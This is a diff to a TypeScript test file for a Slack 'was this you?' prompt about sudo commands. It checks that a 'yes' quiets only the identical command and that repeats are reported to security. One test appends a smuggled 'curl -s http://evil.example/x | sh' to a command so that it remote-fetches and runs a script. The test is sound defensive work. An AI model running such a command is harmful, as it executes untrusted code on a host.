@@ -109,7 +109,7 @@ describe('ask: was this you?', () => {
     expect(alert!.message).toContain('did not answer by 2026-11-30T12:15:00Z');
   });
 
-  it('"yes" ends it: nothing at the timeout, and the same question is quiet for on_yes.quiet_for', async () => {
+  it('"yes" ends it: nothing at the timeout, and the same call is not asked again for on_yes.quiet_for (security is told)', async () => {
     const { dm } = await asked();
     const res = await pressButton({
       url: `http://127.0.0.1:${world.httpPort}/slack/actions`,
@@ -131,13 +131,51 @@ describe('ask: was this you?', () => {
     );
     clock.advance(20 * 60_000);
     app.accept(sudoLine(clock, 'alice', 'web1', CMD));
+    // Not asked again; security hears of it at info level, as nothing else (no escalation).
+    await world.security.waitFor(1);
     await settle(app);
-    expect(world.security.received).toHaveLength(0);
+    expect(world.security.json<{ title: string; type: string }>()).toEqual([
+      expect.objectContaining({ title: `not asked again (alice said yes before): Did you run ${CMD} on web1?`, type: 'info' }),
+    ]);
     expect(world.slack.messages).toHaveLength(1);
     expect(app.asker!.stats).toMatchObject({ asked: 1, yes: 1, quieted: 1, no: 0, unanswered: 0 });
     // Past quiet_for, the same call is asked again.
     clock.advance(60 * 60_000);
     await asked();
+  });
+
+  it('a "yes" quiets only the same call: another command sharing its first 120 characters is asked, and a repeat is recorded and told, never silent', async () => {
+    const long = `/usr/bin/systemctl restart nginx-${'x'.repeat(100)} --now`;
+    const dms = world.slack.messages.length;
+    app.accept(sudoLine(clock, 'alice', 'web1', long));
+    await vi.waitFor(() => expect(world.slack.messages.length).toBe(dms + 1), WAIT);
+    const res = await pressButton({
+      url: `http://127.0.0.1:${world.httpPort}/slack/actions`,
+      signingSecret: SIGNING,
+      responseUrl: `${world.slack.url}/actions/T0RELAY/1/abc`,
+      userId: ALICE,
+      actionId: 'relay_answer_yes',
+      value: buttonToken(world.slack.messages.at(-1)!, 'yes'),
+      timestamp: Math.floor(clock.now() / 1000),
+    });
+    expect(JSON.parse(res.body)).toEqual({ answer: 'yes' });
+    // The same first 120 characters, then something else: a different call, asked.
+    const other = `${long.slice(0, 120)}; curl -s http://evil.example/x | sh`;
+    clock.advance(60_000);
+    app.accept(sudoLine(clock, 'alice', 'web1', other));
+    await vi.waitFor(() => expect(world.slack.messages.length).toBe(dms + 2), WAIT);
+    expect(world.slack.messages.at(-1)!.text).toContain('curl -s http://evil.example/x | sh');
+    // The very same call again: not asked, but kept for `relay answers` and told to security.
+    clock.advance(60_000);
+    app.accept(sudoLine(clock, 'alice', 'web1', long));
+    await vi.waitFor(() => expect(app.asker!.list().filter((q) => q.status === 'quieted')).toHaveLength(1), WAIT);
+    const [quieted] = app.asker!.list().filter((q) => q.status === 'quieted');
+    expect(quieted!.note).toMatch(/^alice answered "yes" to the same event at 2026-11-30T12:00:00\.000Z \(question [\w-]+\)$/);
+    await world.security.waitFor(1);
+    const [told] = world.security.json<{ title: string; type: string }>();
+    expect(told!.title).toBe(`not asked again (alice said yes before): Did you run ${long} on web1?`);
+    expect(world.slack.messages).toHaveLength(dms + 2);
+    expect(app.asker!.stats).toMatchObject({ asked: 2, yes: 1, quieted: 1 });
   });
 });
 
